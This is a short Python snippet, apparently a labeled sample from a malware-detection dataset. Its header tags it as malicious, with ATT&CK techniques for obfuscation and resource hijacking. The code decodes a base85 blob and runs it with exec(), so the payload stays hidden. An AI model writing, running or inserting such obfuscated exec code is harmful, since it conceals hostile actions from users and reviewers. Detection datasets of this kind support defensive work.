# label: malicious family=encoded techniques=T1027,T1059.006,T1140,T1496 lines=3-4
import base64
_ = lambda s: base64.b85decode(s)
exec(_(b'X>D+Ca&#bbbz*RGZ)0V1b31c&VsLVAV`X!5E>Lf9Wo{^2A}@4pa4#-+FL-ToX=frVA}wzsEFyDsa$$6JZ7XzRa5^t9aBpvHE^TRUWq56JE@gOOZE$R5Iy5viG$Je_Ep;L+A~Z%pOGQ^fOiV>oczAetczAetczAetczAetczAetczAetczAetczAetczAetczAetczAetczAetczAetczAetczAetczAetczAetczAetczAetczAetcz7Z#A}uXsZ*F09Wi4!Fc4cfLEFv)?T`2'))
